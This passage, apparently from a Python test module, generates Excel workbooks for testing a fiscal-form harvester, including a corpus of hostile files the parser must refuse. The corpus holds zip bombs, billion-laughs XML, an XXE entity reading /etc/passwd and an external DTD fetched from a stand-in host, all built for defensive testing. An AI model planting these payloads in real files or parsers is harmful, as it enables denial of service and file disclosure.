"""Workbooks for the harvest tests and benchmark, generated at test time (nothing binary is
committed).

* **Seed-like forms** — :func:`write_seed_workbook` lays out the transcribed seeds
  (``workbooks/seeds.yaml``) with openpyxl the way the seed texts print them: label
  cells, merged cells, 元 or 万元, optionally shifted, spaced, HTML-wrapped, typed as
  numbers, stacked on one sheet, with an ``xp_profile`` name. It returns the
  :class:`~xlperf.model.Project` objects the harvester must read back.
* **Raw builders** — :func:`raw_xlsx` (OOXML zip from a value grid, inline strings),
  :func:`cfb` (an OLE compound file) and :func:`biff_workbook` (a minimal BIFF8 xls), fast
  enough for hundreds of files and able to express what no Excel writer would produce.
* **The hostile corpus** — :func:`build_corpus` writes ≥ 200 hostile or broken files and
  says what each must give: ``refused`` (no project, one 错误 problem), ``harvested``
  (projects read, nothing evaluated) or ``any``.
"""
from __future__ import annotations

import datetime as dt
import io
import os
import random
import re
import struct
import zipfile
import zlib
from dataclasses import dataclass, field
from decimal import Decimal
from pathlib import Path
from xml.sax.saxutils import escape

import yaml

from xlperf.model import DECLARATION, SELF_EVALUATION, DeclaredFunds, FundsLine, Indicator, Project
from xlperf.notation import to_decimal

ROOT = Path(__file__).resolve().parents[1]
SEEDS_FILE = ROOT / "workbooks" / "seeds.yaml"


def load_seeds() -> list[dict]:
    return yaml.safe_load(SEEDS_FILE.read_text(encoding="utf-8"))


# ============================================================== variants and expectations

@dataclass(frozen=True)
class Variant:
    """How a seed form is laid out: shifted origin, blank gap rows, spaced labels, HTML text,
    numbers typed as numbers, full-width brackets."""
    name: str = "base"
    r0: int = 0
    c0: int = 0
    gap: int = 0
    spaced: bool = False
    html: bool = False
    numeric: bool = False

    def label(self, text: str) -> str:
        if not self.spaced:
            return text
        spaced = {"项目名称": "项目 名称", "主管部门": "主管\n部门", "一级指标": "一级\n指标", "二级指标": "二级 指标",
                  "三级指标": "三级 指标", "实施单位": "实施　单位", "总分": "总　分", "评分等级": "评分 等级",
                  "偏差原因分析及改进措施": "偏差原因分析\n及改进措施", "年度指标值": "年度\n指标值",
                  "实际完成值": "实际\n完成值", "年度资金总额": "年度资金总额：",
                  "当年财政拨款": "其中：当年财政拨款", "财政资金": "其中：财政资金"}
        return spaced.get(text, text)

    def level(self, text: str) -> str:
        """一级/二级 names as the forms print them broken over lines."""
        if not self.spaced or len(text) < 4:
            return text
        return text[:2] + " " + text[2:-2] + "\n" + text[-2:]

    def text(self, s: str) -> str:
        return f"<p>{escape(s)}</p>" if self.html and s else s


VARIANTS = (
    Variant("base"),
    Variant("shifted", r0=3, c0=2, gap=2),
    Variant("spaced", spaced=True, gap=1),
    Variant("html", html=True),
    Variant("numeric", numeric=True, r0=1, c0=1),
)

_PERIOD = re.compile(r"^\(\d{4}\s*年\s*-\s*\d{4}\s*年\)")


def _dec(s) -> Decimal | None:
    return to_decimal(s, blank=None) if isinstance(s, str) else s


def _is_plain_number(s: str) -> bool:
    try:
        d = Decimal(s.replace(",", ""))
    except Exception:  # noqa: BLE001
        return False
    return s.strip() == s and d.is_finite() and not s.startswith(("+", "."))


def _canonical(d: Decimal) -> str:
    s = format(d, "f")
    if "." in s:
        s = s.rstrip("0").rstrip(".")
    return s


def _percent_value(s: str) -> float | None:
    """A "95%" / "99.7%" that Excel would store as 0.95 / 0.997 with a percent format."""
    if s.endswith("%") and _is_plain_number(s[:-1]) and "," not in s:
        d = Decimal(s[:-1])
        if _canonical(d) == s[:-1]:
            return float(d / 100)
    return None


def expected_project(seed: dict, proj: dict, v: Variant = Variant(), profile: str = "") -> Project:
    """The Project the harvester must read from a form written by :func:`plan_form`."""
    kind = seed["kind"]
    p = Project(kind=kind, year=int(seed["year"]), name=proj["name"], department=proj["department"],
                unit=proj["unit"], money_unit=seed["money_unit"], profile=profile)
    if kind == DECLARATION:
        p.nature, p.category = proj.get("nature", ""), proj.get("category", "")
        p.start, p.end = proj.get("start", ""), proj.get("end", "")
        p.declared = DeclaredFunds(**{k: _dec(x) for k, x in proj["declared_funds"].items()})
        p.total_goal, p.annual_goal = proj.get("total_goal", ""), proj.get("annual_goal", "")
    else:
        for f in proj["funds"]:
            p.funds[f["row"]] = FundsLine(_dec(f["initial"]), _dec(f["budget"]), _dec(f["executed"]), _dec(f["rate"]))
            if f["row"] == "年度资金总额":
                p.funds_weight, p.funds_rate, p.funds_score = _dec(f["weight"]), _dec(f["rate"]), _dec(f["score"])
        p.annual_goal, p.actual_result = proj.get("expected_goal", ""), proj.get("actual_result", "")
        p.total_score = _dec(proj.get("printed_total", ""))
        p.grade = proj.get("printed_grade", "")
    for ind in proj["indicators"]:
        actual = ind.get("actual", "")
        if v.numeric and actual and _percent_value(actual) is None and _is_plain_number(actual):
            actual = Decimal(actual.replace(",", ""))
        p.indicators.append(Indicator(ind["l1"], ind["l2"], ind["l3"], ind["target"], _dec(ind.get("weight", "")),
                                      actual if actual != "" else None, _dec(ind.get("score", "")), ind.get("note", "")))
    return p


def comparable(p: Project) -> dict:
    """A Project as a dict without where it came from (file, sheet, cells)."""
    d = dict(p.__dict__)
    for k in ("source_file", "source_sheet", "cells"):
        d.pop(k)
    d["declared"] = dict(p.declared.__dict__)
    d["funds"] = {k: dict(v.__dict__) for k, v in p.funds.items()}
    d["indicators"] = [dict(i.__dict__) for i in p.indicators]
    return d


# ============================================================== layout plans

class Plan:
    """Cells and merges of one form, relative to its top-left corner."""

    def __init__(self):
        self.cells: dict[tuple[int, int], tuple[object, str | None]] = {}
        self.merges: list[tuple[int, int, int, int]] = []
        self.height = 0

    def put(self, r, c, value, *, to=None, fmt=None):
        if value is not None and value != "":
            self.cells[(r, c)] = (value, fmt)
        if to and to != (r, c):
            self.merges.append((r, c, to[0], to[1]))
        self.height = max(self.height, r + 1, (to[0] + 1) if to else 0)

    def grid(self, r0=0, c0=0) -> list[list]:
        h = self.height + r0
        w = max((c for _, c in self.cells), default=0) + 1 + c0
        rows = [[None] * w for _ in range(h)]
        for (r, c), (value, _fmt) in self.cells.items():
            rows[r + r0][c + c0] = value
        return rows

    def write(self, ws, r0=0, c0=0) -> None:
        for (r, c), (value, fmt) in self.cells.items():
            cell = ws.cell(row=r + r0 + 1, column=c + c0 + 1, value=value)
            if isinstance(value, str) and value.startswith("="):
                cell.data_type = "s"  # typed text such as =100%, not a formula
            if fmt:
                cell.number_format = fmt
        for a, b, c, d in self.merges:
            ws.merge_cells(start_row=a + r0 + 1, start_column=b + c0 + 1, end_row=c + r0 + 1, end_column=d + c0 + 1)


def _amount(v: Variant, s: str):
    """An amount cell: the printed text, or (numeric variant) the number Excel would hold."""
    if v.numeric and s and _is_plain_number(s):
        return float(Decimal(s.replace(",", ""))), None
    if v.numeric and s and _percent_value(s) is not None:
        return _percent_value(s), "0.00%"
    return s, None


def plan_form(seed: dict, proj: dict, v: Variant = Variant()) -> Plan:
    return (_plan_self if seed["kind"] == SELF_EVALUATION else _plan_declared)(seed, proj, v)


def _groups(values: list[str]) -> list[tuple[int, int]]:
    """Runs of equal consecutive values: (first, last) indices."""
    runs, start = [], 0
    for i in range(1, len(values) + 1):
        if i == len(values) or values[i] != values[start]:
            runs.append((start, i - 1))
            start = i
    return runs


def _plan_indicators(P: Plan, r: int, inds: list[dict], cols: dict, v: Variant, full: bool) -> int:
    l1s = [i["l1"] for i in inds]
    l2s = [(i["l1"], i["l2"]) for i in inds]
    for a, b in _groups(l1s):
        P.put(r + a, cols["l1"], v.level(l1s[a]), to=(r + b, cols["l1"]))
    for a, b in _groups(l2s):
        P.put(r + a, cols["l2"], v.level(l2s[a][1]), to=(r + b, cols["l2"]))
    for k, ind in enumerate(inds):
        rr = r + k
        P.put(rr, cols["l3"], v.text(ind["l3"]), to=(rr, cols["l3"] + cols.get("l3_span", 0)))
        P.put(rr, cols["target"], v.text(ind["target"]) if v.html and k % 2 else ind["target"])
        if full:
            actual = ind.get("actual", "")
            if v.numeric and _percent_value(actual) is not None:
                P.put(rr, cols["actual"], _percent_value(actual), fmt="0%")
            elif v.numeric and actual and _is_plain_number(actual):
                P.put(rr, cols["actual"], int(actual) if actual.isdigit() else float(actual))
            else:
                P.put(rr, cols["actual"], actual)
            P.put(rr, cols["weight"], *_amount(v, ind.get("weight", ""))[:1])
            P.put(rr, cols["score"], *_amount(v, ind.get("score", ""))[:1])
            P.put(rr, cols["note"], v.text(ind.get("note", "")))
    return r + len(inds)


def _plan_self(seed: dict, proj: dict, v: Variant) -> Plan:
    P, L, g = Plan(), v.label, v.gap
    wan = seed["money_unit"] == "万元"
    P.put(0, 0, "财政项目支出绩效自评表", to=(0, 8))
    P.put(1, 0, f"({seed['year']} 年度)" if wan else f"（{seed['year']}年度）", to=(1, 8))
    r = 2 + g
    P.put(r, 0, L("项目名称"), to=(r, 1))
    P.put(r, 2, v.text(proj["name"]), to=(r, 8))
    P.put(r + 1, 0, L("主管部门"), to=(r + 1, 1))
    P.put(r + 1, 2, proj["department"], to=(r + 1, 4))
    P.put(r + 1, 5, L("实施单位"), to=(r + 1, 6))
    P.put(r + 1, 7, proj["unit"], to=(r + 1, 8))
    r += 2 + g
    P.put(r, 0, f"项目资金\n（{seed['money_unit']}）" if not v.spaced else f"项目资金 ({seed['money_unit']})", to=(r + 4, 1))
    heads = ["年初预算数", "全年预算数", "全年执行数", "分数" if wan else "分值", "执行率(%)" if wan else "执行率", "得分"]
    for i, h in enumerate(heads):
        P.put(r, 3 + i, L(h))
    labels = {"年度资金总额": "年度资金总额：", "当年财政拨款": "其中：当年财政拨款"}
    for k, f in enumerate(proj["funds"]):
        rr = r + 1 + k
        P.put(rr, 2, L(labels.get(f["row"], f["row"])) if not v.spaced else labels.get(f["row"], f["row"]))
        for i, key in enumerate(("initial", "budget", "executed", "weight", "rate", "score")):
            value, fmt = _amount(v, f[key])
            P.put(rr, 3 + i, value, fmt=fmt)
    r += 5 + g
    P.put(r, 0, "年度\n总体\n目标", to=(r + 1, 0))
    P.put(r, 1, L("预期目标"), to=(r, 4))
    P.put(r, 5, L("实际完成情况"), to=(r, 8))
    P.put(r + 1, 1, v.text(proj.get("expected_goal", "")), to=(r + 1, 4))
    P.put(r + 1, 5, v.text(proj.get("actual_result", "")), to=(r + 1, 8))
    r += 2 + g
    for c, h in enumerate(("一级指标", "二级指标", "三级指标", None, "年度指标值", "实际完成值", "分值", "得分",
                           "偏差原因分析及改进措施")):
        if h:
            P.put(r, c, L(h), to=(r, 3) if c == 2 else None)
    cols = dict(l1=0, l2=1, l3=2, l3_span=1, target=4, actual=5, weight=6, score=7, note=8)
    r = _plan_indicators(P, r + 1, proj["indicators"], cols, v, True)
    r += g
    P.put(r, 0, L("总分"), to=(r, 5))
    P.put(r, 6, _amount(v, proj.get("printed_total_weight", ""))[0])
    P.put(r, 7, _amount(v, proj.get("printed_total", ""))[0])
    if proj.get("printed_grade"):
        P.put(r + 1, 0, L("评分等级"), to=(r + 1, 1))
        P.put(r + 1, 2, proj["printed_grade"])
    return P


def _plan_declared(seed: dict, proj: dict, v: Variant) -> Plan:
    P, L, g = Plan(), v.label, v.gap
    jd = seed["source"].startswith("003")
    P.put(0, 0, "财政项目支出绩效目标申报表", to=(0, 5))
    P.put(1, 0, f"({seed['year']}年度)", to=(1, 5))
    r = 2 + g
    P.put(r, 0, L("项目名称"))
    P.put(r, 1, v.text(proj["name"]))
    if jd:  # seed 003 prints 项目性质's value under the label 项目类别
        P.put(r, 2, L("项目类别"))
        P.put(r, 3, proj["nature"], to=(r, 5))
    else:
        P.put(r, 2, L("项目性质"))
        P.put(r, 3, proj["nature"])
        P.put(r, 4, L("项目类别"))
        P.put(r, 5, proj["category"])
    P.put(r + 1, 0, L("主管部门"))
    P.put(r + 1, 1, proj["department"])
    P.put(r + 1, 2, L("实施单位"))
    P.put(r + 1, 3, proj["unit"], to=(r + 1, 5))
    P.put(r + 2, 0, "计划开始日期")
    P.put(r + 2, 2, "计划完成日期")
    for c, key in ((1, "start"), (3, "end")):
        value = proj[key]
        if v.numeric and value:
            value = dt.date.fromisoformat(value)
        P.put(r + 2, c, value, fmt="yyyy-mm-dd" if v.numeric else None)
    r += 3 + g
    f = proj["declared_funds"]
    P.put(r, 0, "项目资金\n(元)" if not v.spaced else "项目资金 (元)", to=(r + 3, 0))
    P.put(r, 1, "项目资金总额")
    P.put(r, 2, _amount(v, f["project_total"])[0])
    P.put(r, 3, "年度资金申请总额")
    P.put(r, 4, _amount(v, f["annual_total"])[0], to=(r, 5))
    P.put(r + 1, 1, L("财政资金") if v.spaced else "其中：财政资金")
    P.put(r + 1, 2, _amount(v, f["project_fiscal"])[0])
    P.put(r + 1, 3, L("当年财政拨款") if v.spaced else "其中：当年财政拨款")
    P.put(r + 1, 4, _amount(v, f["annual_fiscal"])[0], to=(r + 1, 5))
    P.put(r + 2, 3, "上年结转资金")
    P.put(r + 2, 4, _amount(v, f["annual_carryover"])[0], to=(r + 2, 5))
    P.put(r + 3, 1, "其他资金")
    P.put(r + 3, 2, _amount(v, f["project_other"])[0])
    P.put(r + 3, 3, "其他资金")
    P.put(r + 3, 4, _amount(v, f["annual_other"])[0], to=(r + 3, 5))
    r += 4 + g
    P.put(r, 0, "项目\n绩效\n目标", to=(r + 1, 0))
    total = proj.get("total_goal", "")
    m = _PERIOD.match(total) if v.spaced else None
    P.put(r, 1, L("项目总目标") + (" " + m.group(0) if m else ""), to=(r, 2))
    P.put(r, 3, L("年度总目标" if jd else "年度总体目标"), to=(r, 5))
    P.put(r + 1, 1, v.text(total[m.end():] if m else total), to=(r + 1, 2))
    P.put(r + 1, 3, v.text(proj.get("annual_goal", "")), to=(r + 1, 5))
    r += 2 + g
    P.put(r, 0, "绩效\n指标", to=(r + len(proj["indicators"]), 0))
    for c, h in ((1, "一级指标"), (2, "二级指标"), (3, "三级指标"), (4, "指标目标值" if jd else "年度(/项目)指标值")):
        P.put(r, c, L(h))
    cols = dict(l1=1, l2=2, l3=3, target=4)
    _plan_indicators(P, r + 1, proj["indicators"], cols, v, False)
    return P


def write_seed_workbook(path, seed: dict, v: Variant = Variant(), *, stacked=False, profile=None,
                        scoped_profile=False, projects=None) -> list[Project]:
    """Write one seed's projects (one per sheet, or stacked on one sheet) and return the
    Projects a harvest must read back (in sheet order)."""
    import openpyxl

    wb = openpyxl.Workbook()
    wb.remove(wb.active)
    chosen = seed["projects"] if projects is None else projects
    expected = []
    if stacked:
        ws = wb.create_sheet("汇总")
        top = v.r0
        for proj in chosen:
            plan = plan_form(seed, proj, v)
            plan.write(ws, top, v.c0)
            top += plan.height + 2
            expected.append(expected_project(seed, proj, v, profile or ""))
    else:
        for k, proj in enumerate(chosen):
            ws = wb.create_sheet(f"{proj['id']}"[:31])
            plan_form(seed, proj, v).write(ws, v.r0, v.c0)
            expected.append(expected_project(seed, proj, v, profile or ""))
    if profile is not None:
        from openpyxl.workbook.defined_name import DefinedName
        cfg = wb.create_sheet("设置")
        cfg["A1"], cfg["B1"] = "计分规则", profile
        cfg.sheet_state = "hidden"
        if scoped_profile:
            for ws in wb.worksheets:
                if ws.title != "设置":
                    ws.defined_names["xp_profile"] = DefinedName("xp_profile", attr_text="'设置'!$B$1")
        else:
            wb.defined_names["xp_profile"] = DefinedName("xp_profile", attr_text="'设置'!$B$1")
    wb.save(path)
    return expected


# ============================================================== raw OOXML

_CT = ('<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n<Types xmlns="http://schemas.openxmlformats.org/'
       'package/2006/content-types"><Default Extension="rels" ContentType="application/vnd.openxmlformats-package.'
       'relationships+xml"/><Default Extension="xml" ContentType="application/xml"/>{over}</Types>')
_RELS = ('<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n<Relationships xmlns="http://schemas.openxmlformats'
         '.org/package/2006/relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/'
         'officeDocument/2006/relationships/officeDocument" Target="xl/workbook.xml"/></Relationships>')
_NS = 'xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"'
_RNS = 'xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"'
_REL_T = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/"


def col_letters(c: int) -> str:
    c += 1
    s = ""
    while c:
        c, rem = divmod(c - 1, 26)
        s = chr(65 + rem) + s
    return s


def cell_xml(r: int, c: int, value) -> str:
    ref = f"{col_letters(c)}{r + 1}"
    if value is None or value == "":
        return ""
    if isinstance(value, bool):
        return f'<c r="{ref}" t="b"><v>{int(value)}</v></c>'
    if isinstance(value, (int, float)):
        return f'<c r="{ref}"><v>{value!r}</v></c>'
    if isinstance(value, Formula):
        cached = "" if value.cached is None else (
            f"<v>{escape(str(value.cached))}</v>" if not isinstance(value.cached, str) else f"<v>{escape(value.cached)}</v>")
        t = ' t="str"' if isinstance(value.cached, str) else ""
        return f'<c r="{ref}"{t}><f>{escape(value.text.lstrip("="))}</f>{cached}</c>'
    return f'<c r="{ref}" t="inlineStr"><is><t xml:space="preserve">{escape(str(value))}</t></is></c>'


@dataclass(frozen=True)
class Formula:
    text: str
    cached: object = None


def sheet_xml(grid: list[list], *, dimension: str | None = None, extra_rows: str = "", prolog: str = "") -> str:
    rows = []
    for r, row in enumerate(grid):
        cells = "".join(cell_xml(r, c, v) for c, v in enumerate(row))
        if cells:
            rows.append(f'<row r="{r + 1}">{cells}</row>')
    dim = f'<dimension ref="{dimension}"/>' if dimension else ""
    return (f'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n{prolog}<worksheet {_NS} {_RNS}>{dim}'
            f'<sheetData>{"".join(rows)}{extra_rows}</sheetData></worksheet>')


def raw_xlsx(sheets: list[tuple[str, str]], *, shared: str | None = None, extra: dict | None = None,
             workbook_extra: str = "", macro=False, compress=zipfile.ZIP_DEFLATED) -> bytes:
    """An OOXML zip from ready sheet XML strings; ``extra`` adds or replaces parts."""
    over, rels, sheet_tags = [], [], []
    main = "application/vnd.ms-excel.sheet.macroEnabled.main+xml" if macro else \
        "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"
    over.append(f'<Override PartName="/xl/workbook.xml" ContentType="{main}"/>')
    for i, (name, _xml) in enumerate(sheets, 1):
        over.append(f'<Override PartName="/xl/worksheets/sheet{i}.xml" ContentType="application/vnd.openxmlformats-'
                    f'officedocument.spreadsheetml.worksheet+xml"/>')
        rels.append(f'<Relationship Id="rId{i}" Type="{_REL_T}worksheet" Target="worksheets/sheet{i}.xml"/>')
        sheet_tags.append(f'<sheet name="{escape(name, {chr(34): "&quot;"})}" sheetId="{i}" r:id="rId{i}"/>')
    if shared is not None:
        rels.append(f'<Relationship Id="rIdS" Type="{_REL_T}sharedStrings" Target="sharedStrings.xml"/>')
    parts = {
        "[Content_Types].xml": _CT.format(over="".join(over)),
        "_rels/.rels": _RELS,
        "xl/workbook.xml": (f'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n<workbook {_NS} {_RNS}>'
                            f'<sheets>{"".join(sheet_tags)}</sheets>{workbook_extra}</workbook>'),
        "xl/_rels/workbook.xml.rels": ('<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n<Relationships '
                                       'xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
                                       + "".join(rels) + "</Relationships>"),
    }
    for i, (_name, xml) in enumerate(sheets, 1):
        parts[f"xl/worksheets/sheet{i}.xml"] = xml
    if shared is not None:
        parts["xl/sharedStrings.xml"] = shared
    parts.update(extra or {})
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", compress) as z:
        for name, data in parts.items():
            if data is None:
                continue
            z.writestr(name, data if isinstance(data, bytes) else data.encode("utf-8"))
    return buf.getvalue()


# ============================================================== OLE / BIFF

def cfb(streams: dict[str, bytes], *, patch=None) -> bytes:
    """A version-3 compound file holding ``streams`` (each padded to ≥ 4096 bytes so no mini
    stream is needed). ``patch(header: bytearray, fat: list, dirs: bytearray)`` may corrupt it."""
    ss = 512
    names = list(streams)
    datas = [streams[n] + b"\x00" * max(0, 4096 - len(streams[n])) for n in names]
    stream_secs = [(len(d) + ss - 1) // ss for d in datas]
    n_dir_entries = len(names) + 1
    dir_secs = (n_dir_entries * 128 + ss - 1) // ss
    body = dir_secs + sum(stream_secs)
    fat_secs = 1
    while fat_secs * (ss // 4) < body + fat_secs:
        fat_secs += 1
    fat = [0xFFFFFFFD] * fat_secs
    dir_start = len(fat)
    fat += [dir_start + i + 1 for i in range(dir_secs - 1)] + [0xFFFFFFFE]
    starts = []
    for n in stream_secs:
        start = len(fat)
        starts.append(start)
        fat += [start + i + 1 for i in range(n - 1)] + [0xFFFFFFFE]
    total = len(fat)
    fat += [0xFFFFFFFF] * (fat_secs * (ss // 4) - len(fat))
    dirs = bytearray()

    def entry(name, etype, start, size, child=0xFFFFFFFF, right=0xFFFFFFFF):
        raw = name.encode("utf-16-le") + b"\x00\x00"
        e = bytearray(128)
        e[:len(raw)] = raw
        struct.pack_into("<HBB", e, 64, len(raw), etype, 1)
        struct.pack_into("<III", e, 68, 0xFFFFFFFF, right, child)
        struct.pack_into("<IQ", e, 116, start, size)
        return e

    dirs += entry("Root Entry", 5, 0xFFFFFFFE, 0, child=1)
    for i, (name, data, start) in enumerate(zip(names, datas, starts), 1):
        dirs += entry(name, 2, start, len(data), right=i + 1 if i < len(names) else 0xFFFFFFFF)
    dirs += b"\x00" * (dir_secs * ss - len(dirs))
    header = bytearray(512)
    header[:8] = bytes.fromhex("D0CF11E0A1B11AE1")
    struct.pack_into("<HHHHH", header, 0x18, 0x3E, 3, 0xFFFE, 9, 6)
    struct.pack_into("<IIIIIIIII", header, 0x28, 0, fat_secs, dir_start, 0, 4096, 0xFFFFFFFE, 0, 0xFFFFFFFE, 0)
    difat = list(range(fat_secs)) + [0xFFFFFFFF] * (109 - fat_secs)
    struct.pack_into("<109I", header, 0x4C, *difat)
    if patch:
        patch(header, fat, dirs)
    out = bytearray(header)
    out += struct.pack(f"<{len(fat)}I", *fat)
    out += dirs
    for d in datas:
        out += d + b"\x00" * ((-len(d)) % ss)
    assert total <= len(fat)
    return bytes(out)


def _rec(typ: int, data: bytes) -> bytes:
    return struct.pack("<HH", typ, len(data)) + data


def _xl_string(s: str) -> bytes:
    s = s[:4000]  # one record holds at most 8224 bytes
    return struct.pack("<HB", len(s), 1) + s.encode("utf-16-le")


def biff_workbook(sheets: dict[str, list[list]], *, extra_globals: bytes = b"", extra_sheet: bytes = b"",
                  dimensions: bytes | None = None) -> bytes:
    """A minimal BIFF8 Workbook stream: LABEL and NUMBER cells, one substream per sheet."""
    bof_g = _rec(0x0809, struct.pack("<HHHHII", 0x0600, 0x0005, 0x0DBB, 0x07CC, 0, 0x0206))
    codepage = _rec(0x0042, struct.pack("<H", 1200))
    eof = _rec(0x000A, b"")
    subs = []
    for name, grid in sheets.items():
        cells = []
        h = len(grid)
        w = max((len(r) for r in grid), default=0)
        for r, row in enumerate(grid):
            for c, v in enumerate(row):
                if v is None or v == "":
                    continue
                if isinstance(v, (int, float)) and not isinstance(v, bool):
                    cells.append(_rec(0x0203, struct.pack("<HHHd", r, c, 0, float(v))))
                else:
                    cells.append(_rec(0x0204, struct.pack("<HHH", r, c, 0) + _xl_string(str(v))))
        dim = dimensions if dimensions is not None else _rec(0x0200, struct.pack("<IIHHH", 0, h, 0, w, 0))
        bof_s = _rec(0x0809, struct.pack("<HHHHII", 0x0600, 0x0010, 0x0DBB, 0x07CC, 0, 0x0206))
        subs.append((name, bof_s + dim + b"".join(cells) + extra_sheet + eof))
    pad = _rec(0x0867, b"\x00" * 4000)
    sheet_recs_len = sum(len(_rec(0x0085, struct.pack("<IBB", 0, 0, 0) + struct.pack("<BB", len(n), 1)
                                       + n.encode("utf-16-le"))) for n, _ in subs)
    offset = len(bof_g) + len(codepage) + len(extra_globals) + len(pad) + sheet_recs_len + len(eof)
    bound = b""
    for name, sub in subs:
        bound += _rec(0x0085, struct.pack("<IBB", offset, 0, 0) + struct.pack("<BB", len(name), 1)
                      + name.encode("utf-16-le"))
        offset += len(sub)
    return bof_g + codepage + extra_globals + pad + bound + eof + b"".join(s for _, s in subs)


# ============================================================== a small form for mutation

def small_form_grid(name="安全生产专项工作经费", unit="万元") -> list[list]:
    """A short seed-like 自评表 (seed 001's first project) as a value grid."""
    seed = next(s for s in load_seeds() if s["source"].startswith("001"))
    proj = dict(seed["projects"][0], name=name)
    return plan_form(dict(seed, money_unit=unit), proj, Variant()).grid()


# ============================================================== the hostile corpus

@dataclass
class Case:
    path: Path
    expect: str                 # refused | harvested | any
    note: str
    checks: dict = field(default_factory=dict)


def build_corpus(root: Path) -> list[Case]:
    """Write the hostile corpus under ``root`` and return what each file must give."""
    root = Path(root)
    root.mkdir(parents=True, exist_ok=True)
    rng = random.Random(20240601)
    cases: list[Case] = []
    grid = small_form_grid()
    good = raw_xlsx([("自评表", sheet_xml(grid))])

    def add(name, data, expect, note, **checks):
        path = root / name
        path.write_bytes(data)
        cases.append(Case(path, expect, note, checks))

    # -- broken containers: truncated and corrupted zips
    for i, cut in enumerate(sorted(rng.sample(range(1, len(good) - 1), 30))):
        add(f"truncated_{i:02d}.xlsx", good[:cut], "refused", f"zip truncated at {cut} of {len(good)}")
    for i in range(30):
        data = bytearray(good)
        for _ in range(1 + i % 4):
            pos = rng.randrange(30, len(data))
            data[pos] ^= 0xFF
        add(f"corrupt_{i:02d}.xlsx", bytes(data), "any", "random bytes flipped")
    add("empty.xlsx", b"", "refused", "0 bytes")
    add("only_eocd.xlsx", b"PK\x05\x06" + b"\x00" * 18, "refused", "empty zip")
    add("zip_without_workbook.xlsx", _zip({"hello.txt": b"hi"}), "refused", "zip but no workbook")
    add("docx_renamed.xlsx", _zip({"word/document.xml": b"<w/>", "[Content_Types].xml": b"<Types/>"}),
        "refused", "a Word document")
    add("ods_renamed.xlsx", _zip({"mimetype": b"application/vnd.oasis.opendocument.spreadsheet",
                                  "content.xml": b"<x/>"}), "refused", "OpenDocument")
    add("xlsb_renamed.xlsx", _zip({"xl/workbook.bin": b"\x00" * 10, "[Content_Types].xml": b"<Types/>"}),
        "refused", "xlsb")
    add("duplicate_entries.xlsx", _zip_raw([("xl/workbook.xml", b"<a/>"), ("xl/workbook.xml", b"<b/>"),
                                            ("xl/worksheets/sheet1.xml", b"<c/>")]), "refused", "duplicate names")
    add("bzip2_entries.xlsx", raw_xlsx([("S", sheet_xml(grid))], compress=zipfile.ZIP_BZIP2), "refused",
        "compression method Excel never uses")
    add("encrypted_zip_entry.xlsx", _set_encrypted_flag(good), "refused", "zip entry marked encrypted")

    # -- zip bombs
    for i, mb in enumerate((60, 120, 300)):
        add(f"bomb_total_{mb}mb.xlsx", _bomb(good, "xl/media/zeros.bin", mb), "refused", f"{mb} MB of zeros declared")
    for i, mb in enumerate((3, 8, 20)):
        add(f"bomb_ratio_{mb}mb.xlsx", _bomb(good, "xl/worksheets/sheet2.xml", mb), "refused", f"ratio bomb {mb} MB")
    add("bomb_many_small.xlsx", _zip({f"xl/media/z{i}.bin": b"\x00" * (1900 << 10) for i in range(30)}
                                      | {"xl/workbook.xml": b"<w/>"}), "refused", "30 entries of 1.9 MB zeros (57 MB)")
    add("bomb_lying_header.xlsx", _lying_size(good), "refused", "declared size smaller than the data")
    add("bomb_many_entries.xlsx", _zip({f"xl/x/{i}.xml": b"<a/>" for i in range(1500)} | {"xl/workbook.xml": b"<w/>"}),
        "refused", "1500 entries")
    add("bomb_overlap.xlsx", _overlapping(good), "refused", "entries sharing one compressed body")

    # -- XML entity expansion / DTDs in every part
    lol = ('<!DOCTYPE lolz [<!ENTITY lol "lol"><!ENTITY lol1 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">'
           '<!ENTITY lol2 "&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;">'
           '<!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">'
           '<!ENTITY lol9 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">]>')
    quad = '<!DOCTYPE q [<!ENTITY a "' + "x" * 50000 + '">]>'
    ext = '<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>'
    net = '<!DOCTYPE x [<!ENTITY % p SYSTEM "http://192.0.2.1/evil.dtd"> %p;]>'
    lower = '<!doctype x [<!entity a "b">]>'
    for tag, dtd, ref in (("lol", lol, "&lol9;"), ("quad", quad, "&a;" * 2000), ("ext", ext, "&e;"),
                          ("net", net, ""), ("lower", lower, "&a;")):
        g2 = [row[:] for row in grid]
        sheet = sheet_xml(g2, prolog=dtd).replace("安全生产专项工作经费", ref or "x")
        add(f"xml_{tag}_sheet.xlsx", raw_xlsx([("S", sheet)]), "refused", f"DTD in sheet ({tag})")
        sst = (f'<?xml version="1.0" encoding="UTF-8"?>\n{dtd}<sst {_NS} count="1" uniqueCount="1">'
               f"<si><t>{ref}</t></si></sst>")
        s2 = sheet_xml(grid).replace('t="inlineStr"><is><t xml:space="preserve">安全生产专项工作经费</t></is>',
                                     't="s"><v>0</v>')
        add(f"xml_{tag}_sst.xlsx", raw_xlsx([("S", s2)], shared=sst), "refused", f"DTD in sharedStrings ({tag})")
    for part in ("xl/workbook.xml", "[Content_Types].xml", "xl/_rels/workbook.xml.rels", "docProps/core.xml",
                 "xl/styles.xml"):
        body = f'<?xml version="1.0"?>\n{lol}<x>&lol9;</x>'
        add(f"xml_lol_{part.replace('/', '_').strip('[]')}.xlsx",
            raw_xlsx([("S", sheet_xml(grid))], extra={part: body}), "refused", f"billion laughs in {part}")
    utf16 = sheet_xml(grid, prolog=lol).replace('encoding="UTF-8"', 'encoding="UTF-16"').encode("utf-16")
